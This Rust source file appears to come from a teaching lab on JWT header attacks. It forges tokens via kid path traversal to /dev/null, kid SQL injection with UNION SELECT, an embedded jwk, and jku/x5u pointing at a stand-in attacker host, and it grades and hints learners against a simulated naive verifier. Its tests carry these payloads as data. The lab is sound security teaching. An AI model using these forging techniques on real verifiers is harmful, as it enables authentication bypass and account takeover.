//! Keys in the header: the token names the key that it is to be verified with.

mod key_source;

use aws_lc_rs::hmac;
use chrono::{DateTime, Utc};
use serde_json::{Map, Value, json};

use super::forged_token::{note, refused, unreadable};
use super::remark::{WANTED, clip, who_else};
use crate::keys::{Algorithm, Signer, SigningError, Verifier};
use crate::lab::forge::mac;
use crate::lab::naive::{LaxToken, Objection};
use crate::token::{Claims, parse_value, signing_input};
use key_source::{enclosed, expect_attackers_site, file_at, row_of};

/// The longest value and the longest secret, in characters.
pub const LONGEST_FIELD: usize = 2000;

/// The attacker's site. The name is reserved (RFC 2606 §2), so no server answers there.
pub const ATTACKER: &str = "attacker.example";

/// Where the naive verifier keeps its keys. No such folder is opened.
pub const FOLDER: &str = "/srv/app/keys";

/// The header member that leads to a key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Member {
    KidPath,
    KidSql,
    Jwk,
    Jku,
    X5u,
}

impl Member {
    pub const ALL: [Self; 5] = [Self::KidPath, Self::KidSql, Self::Jwk, Self::Jku, Self::X5u];

    pub const fn value(self) -> &'static str {
        match self {
            Self::KidPath => "kid-path",
            Self::KidSql => "kid-sql",
            Self::Jwk => "jwk",
            Self::Jku => "jku",
            Self::X5u => "x5u",
        }
    }

    pub const fn label(self) -> &'static str {
        match self {
            Self::KidPath => "kid, read as a path",
            Self::KidSql => "kid, put into SQL",
            Self::Jwk => "jwk, a key in the header",
            Self::Jku => "jku, the address of a key set",
            Self::X5u => "x5u, the address of a certificate",
        }
    }

    pub fn find(value: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|it| it.value() == value)
    }

    /// What the naive verifier does with it.
    pub const fn rule(self) -> &'static str {
        match self {
            Self::KidPath => {
                "It joins `/srv/app/keys` and the token's `kid`, and uses what that file holds as the secret."
            }
            Self::KidSql => {
                "It asks its database `SELECT secret FROM keys WHERE kid = '…'`, with the token's `kid` for the dots."
            }
            Self::Jwk => "It checks the signature with the `jwk` in the token's header.",
            Self::Jku => "It fetches the key set at the token's `jku` and checks the signature with that.",
            Self::X5u => "It fetches the certificate at the token's `x5u` and checks the signature with that.",
        }
    }

    /// The member of the header.
    pub const fn name(self) -> &'static str {
        match self {
            Self::KidPath | Self::KidSql => "kid",
            Self::Jwk => "jwk",
            Self::Jku => "jku",
            Self::X5u => "x5u",
        }
    }

    /// A `jwk` is JSON if its text is. Every other member is a string.
    fn json(self, value: &str) -> Value {
        let parsed = (self == Self::Jwk).then(|| parse_value(value)).flatten();
        parsed.unwrap_or_else(|| Value::from(value))
    }
}

/// What the token is signed with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SignedWith {
    EmptyKey,
    Secret,
    AttackersKey,
}

impl SignedWith {
    pub const ALL: [Self; 3] = [Self::AttackersKey, Self::Secret, Self::EmptyKey];

    pub const fn value(self) -> &'static str {
        match self {
            Self::EmptyKey => "empty",
            Self::Secret => "secret",
            Self::AttackersKey => "attacker",
        }
    }

    pub const fn label(self) -> &'static str {
        match self {
            Self::EmptyKey => "the empty key (a secret of no bytes), with HS256",
            Self::Secret => "a secret of my own, with HS256",
            Self::AttackersKey => "my private key, with RS256",
        }
    }

    pub fn find(value: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|it| it.value() == value)
    }

    /// The algorithm that the forged token names.
    pub const fn algorithm(self) -> Algorithm {
        match self {
            Self::EmptyKey | Self::Secret => Algorithm::Hs256,
            Self::AttackersKey => Algorithm::Rs256,
        }
    }
}

/// What a forger chose.
pub struct Choices<'a> {
    pub member: Member,
    pub value: &'a str,
    pub with: SignedWith,
    /// What [`SignedWith::Secret`] signs with.
    pub secret: &'a str,
}

/// What was sent to the naive verifier.
pub enum Attempt<'a> {
    /// A token that the lab forged so.
    Forged(Choices<'a>),
    /// A token that the visitor forged with other tools, for the verifier that reads this member.
    Brought { member: Member, token: &'a str },
}

impl Attempt<'_> {
    pub const fn member(&self) -> Member {
        match self {
            Self::Forged(choices) => choices.member,
            Self::Brought { member, .. } => *member,
        }
    }

    /// Whether the field that it is made of was left empty.
    pub fn is_empty(&self) -> bool {
        match self {
            Self::Forged(choices) => choices.value.trim().is_empty(),
            Self::Brought { token, .. } => token.is_empty(),
        }
    }
}

/// A token with these claims whose header has the member.
pub fn forge(choices: &Choices<'_>, claims: &Claims, attacker: &Signer) -> Result<String, SigningError> {
    let Choices { member, value, with, secret } = *choices;
    let mut header = Map::new();
    header.insert("alg".to_owned(), json!(with.algorithm().as_str()));
    header.insert(member.name().to_owned(), member.json(value));
    header.insert("typ".to_owned(), json!("JWT"));
    let payload = serde_json::to_string(claims).unwrap_or_default();
    let unsigned = signing_input(Value::Object(header).to_string(), payload);
    let signature = match with {
        SignedWith::EmptyKey => mac(hmac::HMAC_SHA256, b"", &unsigned),
        SignedWith::Secret => mac(hmac::HMAC_SHA256, secret.as_bytes(), &unsigned),
        SignedWith::AttackersKey => attacker.sign(unsigned.as_bytes())?,
    };
    Ok(format!("{unsigned}.{signature}"))
}

/// The answer of a verifier that takes its key from where this member points. No file is opened and no request is made:
/// what it would find is known. `attacker` is the key on the attacker's site.
pub fn naive(token: &str, member: Member, attacker: &Verifier, now: DateTime<Utc>) -> Result<Claims, Objection> {
    let token = LaxToken::read(token)?;
    let value = token.header.get(member.name()).cloned().unwrap_or_default();
    let text = value.as_str().unwrap_or_default();
    let (fits, key) = match member {
        Member::KidPath => (token.is_mac(hmac::HMAC_SHA256, file_at(text)?), "the empty key, which that file holds"),
        Member::KidSql => {
            (token.is_mac(hmac::HMAC_SHA256, row_of(text)?.as_bytes()), "the text that the database returns")
        }
        Member::Jwk => {
            (enclosed(&value)?.verifies(token.message.as_bytes(), &token.signature), "the key in the header")
        }
        Member::Jku | Member::X5u => {
            expect_attackers_site(text)?;
            (attacker.verifies(token.message.as_bytes(), &token.signature), "the key at that address")
        }
    };
    if fits { token.claims_before_expiry(now) } else { Err(Objection::BadSignature(key.to_owned())) }
}

/// `Ok` when the lesson is solved, otherwise what is still missing.
pub fn judge(attempt: &Attempt<'_>, naive: &Result<Claims, Objection>) -> Result<String, String> {
    let repetition_note = match attempt {
        Attempt::Brought { token, .. } => note(token),
        Attempt::Forged(_) => String::new(),
    };
    judge_claims(attempt, naive).map(|says| says + &repetition_note).map_err(|says| says + &repetition_note)
}

fn judge_claims(attempt: &Attempt<'_>, naive: &Result<Claims, Objection>) -> Result<String, String> {
    match naive {
        Ok(claims) if claims.subject() == Some(WANTED) => {
            Ok(format!("Mallory is Admin now: she can change 3 grades. {}", success(attempt.member())))
        }
        Ok(claims) => Err(format!(
            "Close: the portal accepts your token, for `{}`. {}",
            clip(claims.subject().unwrap_or("nobody")),
            who_else(
                claims.get("sub").unwrap_or(&Value::Null),
                &format!("Write `\"sub\":\"{WANTED}\"` into the payload.")
            )
        )),
        Err(objection) => Err(hint(attempt, objection)),
    }
}

/// A hint about this attempt.
fn hint(attempt: &Attempt<'_>, objection: &Objection) -> String {
    let member = attempt.member();
    if let Some(missing) = missing(attempt) {
        return missing;
    }
    match objection {
        Objection::NoKey(_) => match of_another_kind(member, &value_of(attempt)) {
            Some(kind) => format!("{kind} {}", no_key(member)),
            None => no_key(member).to_owned(),
        },
        Objection::BadSignature(_) => format!("{}{}", wrong_key(member), expected_algorithm(attempt)),
        _ => match attempt {
            Attempt::Brought { token, .. } => refused(token, objection),
            Attempt::Forged(_) => None,
        }
        .unwrap_or_else(|| format!("The portal refuses the token: {objection}.")),
    }
}

/// What has to be there before there is anything to judge.
fn missing(attempt: &Attempt<'_>) -> Option<String> {
    let name = attempt.member().name();
    match attempt {
        Attempt::Forged(_) if attempt.is_empty() => {
            Some(format!("Write a value for `{name}` that leads to a key you know."))
        }
        Attempt::Forged(_) => None,
        Attempt::Brought { token, .. } => unreadable(token).or_else(|| {
            let is_absent = LaxToken::read(token).is_ok_and(|token| !token.header.contains_key(name));
            is_absent.then(|| format!("The header of your token has no `{name}`. That is where this portal looks."))
        }),
    }
}

/// What the member says, whoever wrote the token.
fn value_of(attempt: &Attempt<'_>) -> String {
    match attempt {
        Attempt::Forged(choices) => choices.value.trim().to_owned(),
        Attempt::Brought { member, token } => {
            let value = LaxToken::read_anything(token).header.get(member.name()).cloned().unwrap_or_default();
            value.as_str().map_or_else(|| value.to_string(), str::to_owned)
        }
    }
}

/// What the text of a member is, as it looks.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ValueKind {
    Path,
    Sql,
    Key,
    Address,
}

impl ValueKind {
    fn of(value: &str) -> Option<Self> {
        let selects = value.to_ascii_lowercase().contains("select ");
        match value.chars().next()? {
            '{' => Some(Self::Key),
            _ if value.contains("://") => Some(Self::Address),
            _ if value.contains('\'') || selects => Some(Self::Sql),
            '/' | '.' => Some(Self::Path),
            _ => None,
        }
    }

    const fn sentence(self) -> &'static str {
        match self {
            Self::Path => "That is a path",
            Self::Sql => "That is a text for an SQL query",
            Self::Key => "That is a key",
            Self::Address => "That is an address",
        }
    }

    /// What the portal does that takes such a value.
    const fn expects(self) -> &'static str {
        match self {
            Self::Path => "this portal opens a file",
            Self::Sql => "this portal asks a database",
            Self::Key => "this portal takes the key itself from the header",
            Self::Address => "this portal fetches from an address",
        }
    }
}

/// What is said of a value that another member would take.
fn of_another_kind(member: Member, value: &str) -> Option<String> {
    let expected = match member {
        Member::KidPath => ValueKind::Path,
        Member::KidSql => ValueKind::Sql,
        Member::Jwk => ValueKind::Key,
        Member::Jku | Member::X5u => ValueKind::Address,
    };
    let kind = ValueKind::of(value).filter(|kind| *kind != expected)?;
    Some(format!("{}, and {}.", kind.sentence(), expected.expects()))
}

const fn no_key(member: Member) -> &'static str {
    match member {
        Member::KidPath => {
            "The path leads somewhere, but not to a file whose content you know. What is in the file is the secret. Name a \
             file that is always empty: its secret has no bytes. A `kid` that starts with a slash replaces the folder."
        }
        Member::KidSql => {
            "Close the quote that the query opened, select a text of your own, and let the query's own last quote close \
             that."
        }
        Member::Jwk => {
            "The `jwk` must be a whole public key as JSON, such as yours on this page. The portal says what this one lacks."
        }
        Member::Jku | Member::X5u => "The address must lead to your own site: `https://attacker.example/`.",
    }
}

const fn wrong_key(member: Member) -> &'static str {
    match member {
        Member::KidPath => {
            "Close: the path is right. The file is empty, so the portal reads a secret of no bytes. So the key is empty too: \
             sign with that."
        }
        Member::KidSql => "Close: the query returns your text. Sign with exactly this text as the secret.",
        Member::Jwk | Member::Jku | Member::X5u => {
            "Close: the portal takes the key from where you say, but another key signed. Sign with the private key that \
             belongs to it."
        }
    }
}

/// What to change in a visitor's own token, if its algorithm is not the one that this portal verifies.
fn expected_algorithm(attempt: &Attempt<'_>) -> String {
    let (Attempt::Brought { token, .. }, Member::KidPath | Member::KidSql) = (attempt, attempt.member()) else {
        return String::new();
    };
    match LaxToken::read_anything(token).text("alg") {
        Some("HS256") => String::new(),
        _ => " It verifies with HS256.".to_owned(),
    }
}

const fn success(member: Member) -> &'static str {
    match member {
        Member::KidPath => {
            "The file is empty, so the portal checked your HMAC with a secret of no bytes. You signed with the same."
        }
        Member::KidSql => "The database returned the secret that you chose.",
        Member::Jwk => "The token brought the key that it was verified with.",
        Member::Jku => "The portal fetched your key set, and the signature fits it.",
        Member::X5u => "The portal fetched your certificate, and the signature fits it.",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::attackers_key::AttackersKey;
    use crate::token::LARGEST_TOKEN;

    fn now() -> DateTime<Utc> {
        DateTime::from_timestamp(1_800_000_000, 0).unwrap()
    }

    #[test]
    fn an_empty_kid_names_the_folder_which_holds_no_key() {
        for kid in ["", ".", FOLDER, "x/.."] {
            let Err(Objection::NoKey(why)) = key_source::file_at(kid) else { panic!("{kid}") };
            assert_eq!(why, "it names the folder /srv/app/keys, and a folder holds no key", "{kid}");
        }
    }

    fn admin() -> Claims {
        Claims::new().with("sub", "admin")
    }

    fn forged(member: Member, value: &str, with: SignedWith, secret: &str, claims: &Claims) -> String {
        let choices = Choices { member, value, with, secret };
        forge(&choices, claims, &AttackersKey::get().unwrap().signer).unwrap()
    }

    fn outcome(member: Member, value: &str, with: SignedWith, secret: &str) -> Result<String, String> {
        let token = forged(member, value, with, secret, &admin());
        let choices = Choices { member, value, with, secret };
        let verifier = &AttackersKey::get().unwrap().verifier;
        judge(&Attempt::Forged(choices), &naive(&token, member, verifier, now()))
    }

    /// What is said of a token that was forged with other tools.
    fn brought(member: Member, token: &str) -> Result<String, String> {
        let verifier = &AttackersKey::get().unwrap().verifier;
        judge(&Attempt::Brought { member, token }, &naive(token, member, verifier, now()))
    }

    #[test]
    fn a_path_to_the_empty_file_makes_the_empty_key() {
        for path in ["/dev/null", "../../../dev/null", "../../../../../dev/null", "/etc/../dev/./null", "//dev//null"] {
            assert!(outcome(Member::KidPath, path, SignedWith::EmptyKey, "").is_ok(), "{path}");
            assert!(outcome(Member::KidPath, path, SignedWith::Secret, "").is_ok(), "{path}");
            assert!(outcome(Member::KidPath, path, SignedWith::Secret, "x").unwrap_err().starts_with("Close:"));
        }
        for path in ["dev/null", "../dev/null", "/etc/passwd", "jwt_key", "/dev/null/"] {
            let said = outcome(Member::KidPath, path, SignedWith::EmptyKey, "");
            assert_eq!(said.is_ok(), path == "/dev/null/", "{path}: {said:?}");
        }
    }

    #[test]
    fn a_union_answers_a_text_of_the_forger_s_choice() {
        for (kid, secret) in [
            ("' UNION SELECT 'x", "x"),
            ("a' union all select 'a b' -- ", "a b"),
            ("'  UnIoN  SELECT  'x' #", "x"),
            ("' UNION SELECT '", ""),
        ] {
            assert!(outcome(Member::KidSql, kid, SignedWith::Secret, secret).is_ok(), "{kid}");
            assert!(
                outcome(Member::KidSql, kid, SignedWith::Secret, "other").unwrap_err().starts_with("Close:"),
                "{kid}"
            );
        }
        for kid in ["x", "' OR 1=1 --", "' UNION SELECT 'x'", "' UNIONSELECT 'x", "' UNION SELECT secret FROM keys --"]
        {
            assert!(outcome(Member::KidSql, kid, SignedWith::Secret, "x").unwrap_err().contains("quote"), "{kid}");
        }
    }

    #[test]
    fn an_enclosed_key_fits_what_its_private_half_signed() {
        let jwk = &AttackersKey::get().unwrap().public_jwk;
        assert!(outcome(Member::Jwk, jwk, SignedWith::AttackersKey, "").is_ok());
        assert!(outcome(Member::Jwk, jwk, SignedWith::EmptyKey, "").unwrap_err().starts_with("Close:"));
        assert!(outcome(Member::Jwk, r#"{"kty":"oct","k":"eA"}"#, SignedWith::Secret, "x").is_ok());
        for jwk in ["nonsense", "{}", r#"{"kty":"RSA","n":"AQ","e":"AQAB"}"#, "[]"] {
            assert!(
                outcome(Member::Jwk, jwk, SignedWith::AttackersKey, "").unwrap_err().contains("a whole public key"),
                "{jwk}"
            );
        }
    }

    #[test]
    fn an_address_counts_when_the_attacker_writes_what_lies_there() {
        for member in [Member::Jku, Member::X5u] {
            for address in [
                "https://attacker.example/jwks.json",
                "http://attacker.example",
                "https://issuer.example.attacker.example/",
                "https://issuer.example@attacker.example/",
                "https://ATTACKER.example:8443/x#y",
            ] {
                assert!(outcome(member, address, SignedWith::AttackersKey, "").is_ok(), "{address}");
                assert!(outcome(member, address, SignedWith::EmptyKey, "").unwrap_err().starts_with("Close:"));
            }
            for address in
                ["https://notattacker.example/", "attacker.example", "file:///dev/null", "https://127.0.0.1/"]
            {
                assert!(outcome(member, address, SignedWith::AttackersKey, "").is_err(), "{address}");
            }
        }
    }

    #[test]
    fn a_value_of_another_kind_is_named() {
        let (sql, jwk) = ("' UNION SELECT 'x", r#"{"kty":"RSA"}"#);
        for (member, value, says) in [
            (Member::KidPath, sql, "a text for an SQL query, and this portal opens a file."),
            (Member::KidPath, "select 1", "a text for an SQL query, and"),
            (Member::KidPath, "https://attacker.example/", "an address, and this portal opens a file."),
            (Member::KidPath, jwk, "a key, and this portal opens a file."),
            (Member::KidSql, "/dev/null", "a path, and this portal asks a database."),
            (Member::KidSql, "https://attacker.example/", "an address, and this portal asks a database."),
            (Member::Jwk, "/dev/null", "a path, and this portal takes the key itself from the header."),
            (Member::Jwk, sql, "a text for an SQL query, and this portal takes the key itself"),
            (Member::Jku, "../../dev/null", "a path, and this portal fetches from an address."),
            (Member::X5u, jwk, "a key, and this portal fetches from an address."),
        ] {
            let said = outcome(member, value, SignedWith::EmptyKey, "").unwrap_err();
            assert!(said.contains(says) && said.contains(no_key(member)), "{value}: {said}");
            let token = forged(member, value, SignedWith::EmptyKey, "", &admin());
            assert!(brought(member, &token).unwrap_err().contains(says), "{value}");
        }
        for (member, value) in [(Member::KidPath, "/etc/passwd"), (Member::KidSql, "' OR 1=1 --"), (Member::Jwk, "{}")]
        {
            let said = outcome(member, value, SignedWith::EmptyKey, "").unwrap_err();
            assert!(!said.contains("That is"), "{said}");
        }
    }

    #[test]
    fn a_member_without_a_value_leads_nowhere() {
        for member in Member::ALL {
            assert!(outcome(member, " ", SignedWith::EmptyKey, "").unwrap_err().starts_with("Write a value"));
        }
    }

    #[test]
    fn a_token_of_other_tools_is_judged_by_what_it_is_itself() {
        let jwk = &AttackersKey::get().unwrap().public_jwk;
        let (path, null, own) = (Member::KidPath, "/dev/null", SignedWith::AttackersKey);
        assert!(brought(path, &forged(path, null, SignedWith::EmptyKey, "", &admin())).is_ok());
        assert!(brought(Member::Jwk, &forged(Member::Jwk, jwk, own, "", &admin())).is_ok());
        let bob = forged(path, null, SignedWith::EmptyKey, "", &Claims::new().with("sub", "bob"));
        let late = forged(path, null, SignedWith::EmptyKey, "", &admin().with("exp", 1_799_999_999));
        for (member, token, hint) in [
            (path, bob, "accepts your token, for `bob`"),
            (path, late, "has expired"),
            (path, String::new(), "Paste your token"),
            (path, "a.b".to_owned(), "not a token: a token has three parts, and this text has 2"),
            (path, "a.b.c".to_owned(), "not a token"),
            (path, "a".repeat(LARGEST_TOKEN + 1), "has 8193 bytes"),
            (path, forged(Member::Jwk, jwk, own, "", &admin()), "has no `kid`"),
            (Member::Jku, forged(Member::Jwk, jwk, own, "", &admin()), "has no `jku`"),
            (path, forged(path, null, own, "", &admin()), "sign with that. It verifies with HS256."),
            (path, forged(path, null, SignedWith::Secret, "x", &admin()), "So the key is empty too: sign with that."),
            (Member::Jwk, forged(Member::Jwk, jwk, SignedWith::Secret, "x", &admin()), "another key signed"),
        ] {
            let said = brought(member, &token).unwrap_err();
            assert!(said.contains(hint), "{hint}: {said}");
        }
    }
}
